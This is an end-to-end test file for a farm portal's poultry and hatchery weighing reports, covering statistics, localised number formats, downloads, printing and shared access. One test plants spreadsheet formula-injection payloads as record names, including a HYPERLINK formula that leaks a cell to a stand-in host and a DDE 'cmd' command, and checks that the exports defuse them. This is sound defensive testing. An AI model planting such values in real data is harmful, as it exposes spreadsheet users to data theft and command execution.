import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createNucleo, grantAccess } from '../packages/server/src/test/factories/farms.js';
import { createLote } from '../packages/server/src/test/factories/flocks.js';
import { createPesagens } from '../packages/server/src/test/factories/weighings.js';
import { readRows } from './pages/ReportFrame.js';
import { WeighingReportPage } from './pages/ReportPages.js';
import { text } from './support/locales.js';
import { DESKTOP, PHONE, startE2E, type E2E } from './support/portal.js';
import { signedIn } from './support/session.js';
import {
  addDays,
  assertBoxOne,
  DAY,
  labelled,
  masked,
  openReport,
  seedFarm,
  setReportsLanguage,
  SUMMARY_HEADER,
  summaryBoxOne,
  TODAY,
  uniformityNote,
  type Seeded,
} from './support/weighingReport.js';

describe('weighing reports (aves, aves-incubatorio)', () => {
  let e2e: E2E;
  const seeded: Partial<Seeded> = {};

  beforeAll(async () => {
    e2e = await startE2E();
  });
  afterAll(async () => {
    await e2e?.close();
  });

  it('aves (pt): filters, generates, shows the statistics in pt-BR, keeps the filters in the url', async () => {
    const page = await e2e.newPage(DESKTOP, 'pt');
    const account = await signedIn(e2e, page);
    const query = await seedFarm(e2e, account);
    Object.assign(seeded, { account, query });
    const report = new WeighingReportPage(page);

    await report.goto();
    await page.getByTestId('report-idle').waitFor();
    // Quick ranges (section 9): 30 and 365 days back to today.
    await report.quickRange(365);
    expect(await report.filter('inicio').inputValue()).toBe(masked(addDays(TODAY, -365)));
    await report.quickRange(30);
    expect(await report.filter('inicio').inputValue()).toBe(masked(addDays(TODAY, -30)));
    expect(await report.filter('fim').inputValue()).toBe(masked(TODAY));
    expect(await page.getByTestId('report-available').textContent()).toContain(masked(DAY));

    await report.choose('nucleo', 'Granja Primavera');
    await report.choose('lote', 'L-7');
    await report.choose('sexo', 'Macho');
    await report.generate();

    const query2 = report.query();
    expect(query2.get('inicio')).toBe(addDays(TODAY, -30));
    expect(query2.get('sexo')).toBe('Macho');
    expect(await report.boxCount()).toBe(9);
    await assertBoxOne(report, 'pt');
    // Both edges of the band count inside: 1800 and 2200 around a 2000 g mean are uniform.
    expect(await report.stat(await report.findBox(';Aviário 1;A;2.R.P'), 'uni')).toBe('100,00 %');
    expect(await report.stat(await report.findBox(';Aviário 1;A;1.R.P'), 'scores')).toContain('33,33 %');
    expect(await page.getByTestId('uniformity-note').textContent()).toBe(uniformityNote('pt'));
    expect(await page.getByTestId('report-scales').textContent()).toBe('BAL-0001, BAL-0002');
    expect(await report.stat(report.total(), 'totalAves')).toBe(String(5 + 3 + 7 * 3));
    // Summary: one date|flock|sex group, two categories (houses), each with its side.
    expect(await report.summaryRows('grupo').count()).toBe(1);
    expect(await report.summaryRows('aviario').count()).toBe(2);
    expect(await report.summaryRows('lado').count()).toBe(2);
    const rows = await readRows(report.summaryRows());
    expect(rows.map((row) => row.attributes.level)).toEqual(['grupo', 'aviario', 'lado', 'aviario', 'lado']);
    expect(rows[0]!.cells).toMatchObject({ totalAves: '29', percentPadrao: expect.stringMatching(/ %$/) });
    expect(rows[0]!.cells.nome).toContain('Lote L-7');
    expect(rows[1]!.cells.nome).toBe('Aviário 1');
    expect(rows[2]!.cells).toMatchObject({ nome: 'Lado A', totalAves: '17' });
    // A row opens its boxes from the keyboard too: the side's heading comes into view and takes the focus.
    const side = report.summaryRows('lado').nth(1);
    await side.focus();
    await page.keyboard.press('Enter');
    const heading = page.locator(`[data-testid="report-boxes"] > [data-index="${await side.getAttribute('data-item')}"]`);
    await expect.poll(() => heading.evaluate((element) => element === document.activeElement)).toBe(true);
    expect(await heading.getByTestId('report-side').getAttribute('data-lado')).toBe('B');
    expect((await heading.boundingBox())!.y).toBeLessThan(DESKTOP.height / 2);
    await page.evaluate(() => window.scrollTo(0, 0));
    // The histograms are drawn (ECharts, canvas) shortly after the report, once in view.
    await report.revealCharts();
    await e2e.screenshot(page, 'reports-aves-pt-desktop');

    // A bookmarked url opens the same report.
    await page.reload();
    await report.settled();
    expect(await report.boxCount()).toBe(9);
  });

  it('aves (pt): CSV, TXT and HTML downloads in the user’s separator and number format, box keys ending .R.P', async () => {
    const { page, report } = await openReport(e2e, seeded as Seeded, DESKTOP, 'pt');

    const csv = await report.download('csv');
    expect(csv.name).toBe(`aves_${addDays(DAY, -1)}_${DAY}.csv`);
    const lines = csv.text.replace(/^\uFEFF/, '').split('\r\n');
    const header = lines[0]!.split(';');
    expect(header.slice(0, 11)).toEqual(['nivel', 'data', 'nucleo', 'lote', 'sexo', 'aviario', 'lado', 'box', 'linha', 'idade_lote', 'key']);
    expect(header).toContain('pesoMedio');
    const boxLine = lines.find((line) => line.includes('1.R.P"'))!;
    // The key holds the separator, so it is quoted; numbers carry a decimal comma and no grouping.
    expect(boxLine).toContain(`"${DAY};L-7;Macho;Aviário 1;A;1.R.P"`);
    const cells = boxLine.replace(/"[^"]*"/, 'KEY').split(';');
    expect(cells[header.indexOf('pesoMedio')]).toBe('2000,0');
    expect(cells[header.indexOf('cv')]).toBe('11,18');
    expect(cells[header.indexOf('uni')]).toBe('60,00');
    expect(cells[header.indexOf('percentPadrao')]).toBe('130,72');
    expect(lines.filter((line) => line.startsWith('box;')).length).toBe(9);

    const txt = await report.download('txt');
    expect(txt.text).toContain(text('pt', 'reports.analysisTitle'));
    expect(txt.text).toContain('2.000,0');
    expect(txt.text).toContain(`${DAY};L-7;Macho;Aviário 1;A;1.R.P`);

    const html = await report.download('html');
    expect(html.text).toContain(`<title>${text('pt', 'reports.analysisTitle')}</title>`);
    expect(html.text).toContain('<td class="n">11,18</td>');

    // The server's summary per flock, house, side and pen over the report's period, named by it.
    const summary = await report.download('summary');
    expect(summary.name).toBe(`resumo_${addDays(DAY, -1)}_${DAY}.csv`);
    const summaryLines = summary.text.replace(/^\uFEFF/, '').split('\r\n');
    expect(summaryLines[0]).toBe(SUMMARY_HEADER.join(';'));
    expect(summaryLines).toContain(summaryBoxOne(';', ','));
    // Nine pens, then the file's final line end.
    expect(summaryLines.length).toBe(1 + 9 + 1);
    expect(summaryLines.at(-1)).toBe('');

    // The decimal mark follows the reports' language, not the interface's.
    await setReportsLanguage(e2e, (seeded as Seeded).account, 'en');
    try {
      const english = (await report.download('summary')).text.replace(/^\uFEFF/, '').split('\r\n');
      expect(english[0]).toBe(SUMMARY_HEADER.join(';'));
      expect(english).toContain(summaryBoxOne(';', '.'));
      expect(await page.getByTestId('summary-error').count()).toBe(0);
    } finally {
      await setReportsLanguage(e2e, (seeded as Seeded).account, 'pt');
    }

    // A refused summary says why, translated, and can be dismissed.
    await page.route('**/api/v2/resumo?**', (route) =>
      route.fulfill({ status: 400, contentType: 'application/json', body: JSON.stringify({ code: 'DATE_RANGE_INVALID', message: 'The end date comes before the start date.' }) }),
    );
    await page.getByTestId('report-download').click();
    await e2e.screenshot(page, 'reports-aves-pt-download-menu');
    await page.getByTestId('download-summary').click();
    const refused = page.getByTestId('summary-error');
    await refused.waitFor();
    expect(await refused.textContent()).toContain(text('pt', 'errors.DATE_RANGE_INVALID'));
    await refused.getByRole('button', { name: text('pt', 'reports.dismiss') }).click();
    await refused.waitFor({ state: 'detached' });
    await page.unroute('**/api/v2/resumo?**');
  });

  it('aves: farm, flock, house and side named like spreadsheet formulas come out defused in every download', async () => {
    const page = await e2e.newPage(DESKTOP, 'pt');
    const account = await signedIn(e2e, page);
    const names = { farm: '=HYPERLINK("http://x.test/?"&A1;"ver")', flock: "+cmd|' /C calc'!A0", house: '@SUM(1+1)', side: '-2+3' };
    const farm = await createNucleo(e2e.portal, account, { nome: names.farm });
    const lote = await createLote(e2e.portal, account, farm, { codigo: names.flock });
    await createPesagens(e2e.portal, account, { nucleo: farm, lote, rows: [1900, 2000, 2100].map((peso) => ({ peso, data: DAY, aviario: names.house, lado: names.side, box: '1', sexo: 'Macho' })) });
    const report = new WeighingReportPage(page);
    await report.goto(`nucleo=${farm.id}&lote=${lote.id}&inicio=${addDays(DAY, -1)}&fim=${DAY}`);
    await report.settled();
    expect(await report.boxCount()).toBe(1);

    // A cell a spreadsheet would run: a formula start that is not a plain number.
    const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:[.,]\d+)*$/.test(cell);
    for (const format of ['csv', 'summary'] as const) {
      const cells = parse((await report.download(format)).text, { delimiter: ';', bom: true }) as string[][];
      expect(cells.flat().filter(runnable), format).toEqual([]);
      for (const name of Object.values(names)) expect(cells.flat(), format).toContain(`'${name}`);
    }
    const txt = (await report.download('txt')).text;
    const html = (await report.download('html')).text;
    // TXT: aligned columns (two spaces or more apart), as a spreadsheet's column import splits them; the rules under the title and header are the report's own.
    const columns = txt.split('\r\n').filter((line) => !/^(=+|-+)$/.test(line)).flatMap((line) => line.split(/ {2,}/));
    expect(columns.filter(runnable)).toEqual([]);
    for (const name of Object.values(names)) {
      expect(columns, name).toContain(`'${name}`);
      expect(html).toContain(`<td>&#39;${name.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll("'", '&#39;')}</td>`);
    }
  });

  it('aves: the printed layout is 4 boxes a page (9 boxes → 3 PDF pages) under the title, logo and scales', async () => {
    const { page, report } = await openReport(e2e, seeded as Seeded, DESKTOP, 'pt');

    // The Print button lays the report out, draws the graphs, then opens the browser's dialog.
    expect(await report.print()).toBe(true);
    await page.emulateMedia({ media: 'print' });
    // Only the printed report shows: the app's menu and the screen are hidden.
    expect(await page.getByTestId('report-result').isVisible()).toBe(false);
    const pages = page.getByTestId('print-page');
    expect(await pages.count()).toBe(3);
    expect(await Promise.all([0, 1, 2].map((index) => pages.nth(index).getByTestId('print-box').count()))).toEqual([4, 4, 1]);
    for (let index = 0; index < 3; index += 1) {
      const sheet = pages.nth(index);
      expect(await sheet.getByRole('heading', { name: text('pt', 'reports.analysisTitle') }).isVisible()).toBe(true);
      expect(await sheet.textContent()).toContain('BAL-0001, BAL-0002');
      expect(await sheet.textContent()).toContain(text('pt', 'app.name'));
    }
    // Nothing is cut off: each box's content fits its printed frame.
    expect(await page.getByTestId('print-box').evaluateAll((list) => list.filter((box) => box.scrollHeight > box.clientHeight + 1).length)).toBe(0);
    // Every graph is drawn before printing (an SVG of its bars), laid out at its printed size.
    const charts = page.locator('[data-testid="print-chart"] > svg');
    expect(await charts.count()).toBe(9);
    expect(await charts.evaluateAll((list) => list.every((chart) => chart.querySelectorAll('rect').length > 0 && chart.getBoundingClientRect().width > 300))).toBe(true);

    await e2e.screenshot(page, 'reports-aves-pt-print');
    const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: true });
    const source = pdf.toString('latin1');
    expect(source.match(/\/Type\s*\/Page(?![a-zA-Z])/g)?.length).toBe(3);
    await page.emulateMedia({ media: 'screen' });
  });

  it('aves in en and es: the same numbers in each language’s format; phone width without sideways scrolling', async () => {
    for (const [language, viewport] of [
      ['en', DESKTOP],
      ['es', PHONE],
      ['en', PHONE],
    ] as const) {
      const { page, report } = await openReport(e2e, seeded as Seeded, viewport, language, ',');
      await assertBoxOne(report, language, ',');
      expect(await page.getByTestId('uniformity-note').textContent()).toBe(uniformityNote(language));
      await report.revealCharts();
      expect(await report.horizontalOverflow()).toBeLessThanOrEqual(0);
      if (language === 'en' && viewport === DESKTOP) {
        // A comma separator: the keys (holding it) are quoted, numbers keep the English decimal point.
        const csv = (await report.download('csv')).text.replace(/^\uFEFF/, '').split('\r\n');
        expect(csv[0]!.startsWith('nivel,data,nucleo,lote,sexo,aviario,lado,box,linha,idade_lote,key,totalAves,pesoMedio,')).toBe(true);
        expect(csv.find((line) => line.includes('1.R.P'))).toContain(`"${DAY},L-7,Macho,Aviário 1,A,1.R.P",5,2000.0,223.6,11.18,60.00,`);
        // The summary in the comma separator, figures with the English point (reports in English).
        await setReportsLanguage(e2e, (seeded as Seeded).account, 'en');
        try {
          expect(await report.downloadEntries()).toContain('download-summary');
          const summary = (await report.download('summary')).text.replace(/^\uFEFF/, '').split('\r\n');
          expect(summary[0]).toBe(SUMMARY_HEADER.join(','));
          expect(summary).toContain(summaryBoxOne(',', '.'));
        } finally {
          await setReportsLanguage(e2e, (seeded as Seeded).account, 'en');
        }
      }
      await e2e.screenshot(page, `reports-aves-${language}-${viewport === PHONE ? 'phone' : 'desktop'}`);
      await page.context().close();
    }
  });

  it('aves (pt, phone): no sideways scrolling, boxes stacked; a wrong period and an empty one say so', async () => {
    const { page, report } = await openReport(e2e, seeded as Seeded, PHONE, 'pt');
    expect(await report.horizontalOverflow()).toBeLessThanOrEqual(0);
    // The report shown, the filters fold away behind their summary.
    expect(await page.getByTestId('report-filters').getAttribute('data-folded')).toBe('true');
    expect(await page.getByTestId('filters-summary').textContent()).toContain(`${masked(addDays(DAY, -1))} a ${masked(DAY)} · Granja Primavera · L-7`);
    const firstBox = await report.findBox(';Aviário 1;A;1.R.P');
    const [first, second] = await Promise.all([firstBox.boundingBox(), report.box(';Aviário 1;A;2.R.P').boundingBox()]);
    expect(second!.y).toBeGreaterThan(first!.y + first!.height - 1);
    expect(Math.abs(second!.x - first!.x)).toBeLessThan(2);
    await report.revealCharts();
    await e2e.screenshot(page, 'reports-aves-pt-phone');

    // Printing from the browser's menu (no Print button) lays the pages out at once, graphs included.
    expect(await page.getByTestId('print-report').count()).toBe(0);
    await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
    expect(await page.locator('[data-testid="print-chart"] > svg').count()).toBe(9);

    // The end before the start: said under the field, nothing asked.
    await page.evaluate(() => window.scrollTo(0, 0));
    await report.unfoldFilters();
    await report.typeDate('inicio', masked(DAY));
    await report.typeDate('fim', masked(addDays(DAY, -3)));
    await page.getByTestId('report-generate').click();
    await expect.poll(() => page.getByText(text('pt', 'errors.DATE_RANGE_INVALID')).count()).toBe(1);

    // A period without weighings.
    await report.typeDate('inicio', masked(addDays(DAY, -200)));
    await report.typeDate('fim', masked(addDays(DAY, -100)));
    await report.generate();
    expect(await page.getByTestId('report-empty').textContent()).toContain(text('pt', 'reports.emptyTitle'));
    expect(await page.getByTestId('report-empty').textContent()).toContain(text('pt', 'reports.emptyHint.aves'));
  });

  it('aves: a shared link names its owner; someone granted reading sees that owner’s report', async () => {
    const page = await e2e.newPage(DESKTOP, 'pt');
    const reader = await signedIn(e2e, page);
    const { account, query } = seeded as Seeded;
    await grantAccess(e2e.portal, account, reader, 'leitura');
    const report = new WeighingReportPage(page);
    await report.goto(`prop=${account.user.id}&${query}`);
    await report.settled();
    expect(await report.boxCount()).toBe(9);
    expect(await page.getByTestId('owner-picker').inputValue()).toContain(account.user.name);
    // Without the owner in the link: a reader with nothing of their own acts for the owner who
    // granted access (records/ownerChoice.ts), so the same period shows that owner's boxes.
    await report.goto(query.replace(/nucleo=\d+&lote=\d+&/, ''));
    await report.settled();
    expect(await report.boxCount()).toBe(9);
    expect(await page.getByTestId('owner-picker').inputValue()).toContain(account.user.name);
  });

  it('aves-incubatorio: chick weights per hatch, incubator and line, in the hatchery words', async () => {
    const page = await e2e.newPage(DESKTOP, 'pt');
    const account = await signedIn(e2e, page);
    const hatchery = await createNucleo(e2e.portal, account, { nome: 'Incubatório Central', tipo: 'incubatorio' });
    const hatch = await createLote(e2e.portal, account, hatchery, { codigo: 'N-12', data_alojamento: DAY });
    // 40.0, 42.0, 44.0 g: mean 42.0, desvioP 2.0, cv 4.76 %, band 37.8–46.2: uni 100 %.
    const chicks = [40, 42, 44].map((peso) => ({ peso, data: DAY, aviario: 'Incubadora 3', lado: '1', box: '7', sexo: 'Cobb 500', linha: 'Cobb', idade_lote: 0, serie_balanca: 'BL30PI-9' }));
    await createPesagens(e2e.portal, account, { nucleo: hatchery, lote: hatch, rows: chicks });
    // A farm's weighings stay out of the hatchery report.
    await seedFarm(e2e, account);

    const report = new WeighingReportPage(page, 'aves-incubatorio');
    await report.goto();
    // The hatchery screen names its own filters, not the farms' (issue 16).
    expect(await page.getByTestId('report-idle').textContent()).toContain(text('pt', 'reports.idleHint.incubatorio'));
    expect(await page.getByText(text('pt', 'reports.keys.incubatorio.lote'), { exact: true }).count()).toBeGreaterThan(0);
    await report.choose('nucleo', 'Incubatório Central');
    await report.generate();
    expect(await report.boxCount()).toBe(1);
    const box = await report.findBox(';N-12;Cobb 500;Incubadora 3;1;7.R.P');
    expect(await report.stat(box, 'totalAves')).toBe('3');
    expect(await report.stat(box, 'pesoMedio')).toBe('42,0 g');
    expect(await report.stat(box, 'desvioP')).toBe('2,0 g');
    expect(await report.stat(box, 'cv')).toBe('4,76 %');
    expect(await report.stat(box, 'uni')).toBe('100,00 %');
    const title = (await box.getByTestId('box-title').textContent()) ?? '';
    expect(title).toContain(`${text('pt', 'reports.box.incubatorio.lote')}: N-12`);
    // 'Incubadora 3' already says what it is: not 'Incubadora: Incubadora 3'.
    expect(title).toContain('Incubadora 3');
    expect(title).not.toContain('Incubadora: Incubadora');
    expect(title).toContain(`${text('pt', 'reports.box.incubatorio.sexo')}: Cobb 500`);
    expect(await page.getByTestId('report-scales').textContent()).toBe('BL30PI-9');
    await e2e.screenshot(page, 'reports-incubatorio-pt-desktop');

    const csv = await report.download('csv');
    expect(csv.name).toBe(`aves-incubatorio_${addDays(TODAY, -30)}_${TODAY}.csv`);
    expect(csv.text).toContain(`"${DAY};N-12;Cobb 500;Incubadora 3;1;7.R.P"`);
    expect(csv.text).not.toContain('Aviário 1');
    // v2/resumo summarises farms, never hatcheries: the hatchery screen does not offer it.
    expect(await report.downloadEntries()).toEqual(['download-csv', 'download-txt', 'download-html']);

    // The same report in English and Spanish: hatchery words, numbers in each language's format.
    const numbers = { en: { pesoMedio: '42.0 g', cv: '4.76 %' }, es: { pesoMedio: '42,0 g', cv: '4,76 %' } } as const;
    const hatcheryQuery = `nucleo=${hatchery.id}&inicio=${addDays(DAY, -1)}&fim=${DAY}`;
    for (const [language, viewport] of [
      ['en', DESKTOP],
      ['es', PHONE],
    ] as const) {
      const opened = await openReport(e2e, { account, query: hatcheryQuery }, viewport, language, ';', 'aves-incubatorio');
      expect(await opened.report.boxCount()).toBe(1);
      const translated = await opened.report.findBox(';N-12;Cobb 500;Incubadora 3;1;7.R.P');
      expect(await opened.report.stat(translated, 'totalAves')).toBe('3');
      expect(await opened.report.stat(translated, 'pesoMedio')).toBe(numbers[language].pesoMedio);
      expect(await opened.report.stat(translated, 'cv')).toBe(numbers[language].cv);
      const boxTitle = (await translated.getByTestId('box-title').textContent()) ?? '';
      expect(boxTitle).toContain(`${text(language, 'reports.box.incubatorio.lote')}: N-12`);
      expect(boxTitle).toContain(labelled(text(language, 'reports.box.incubatorio.aviario'), 'Incubadora 3', ': '));
      expect(boxTitle).toContain(`${text(language, 'reports.box.incubatorio.sexo')}: Cobb 500`);
      // The summary's rows open the group's and the incubator's headings.
      await opened.report.summaryRows('grupo').first().click();
      const group = opened.page.getByTestId('report-group');
      expect(await group.textContent()).toContain(`${text(language, 'reports.keys.incubatorio.nucleo')}:`);
      await opened.report.summaryRows('aviario').first().click();
      expect(await opened.page.getByTestId('report-category').first().textContent()).toContain(labelled(text(language, 'reports.keys.incubatorio.aviario'), 'Incubadora 3', ': '));
      expect(await opened.report.horizontalOverflow()).toBeLessThanOrEqual(0);
      await e2e.screenshot(opened.page, `reports-incubatorio-${language}-${viewport === PHONE ? 'phone' : 'desktop'}`);
      await opened.page.context().close();
    }

    // A period without chick weighings: the hint names the hatchery filters.
    await report.goto(`nucleo=${hatchery.id}&inicio=${addDays(DAY, -200)}&fim=${addDays(DAY, -100)}`);
    await report.settled();
    expect(await page.getByTestId('report-empty').textContent()).toContain(text('pt', 'reports.emptyHint.incubatorio'));
  });
});
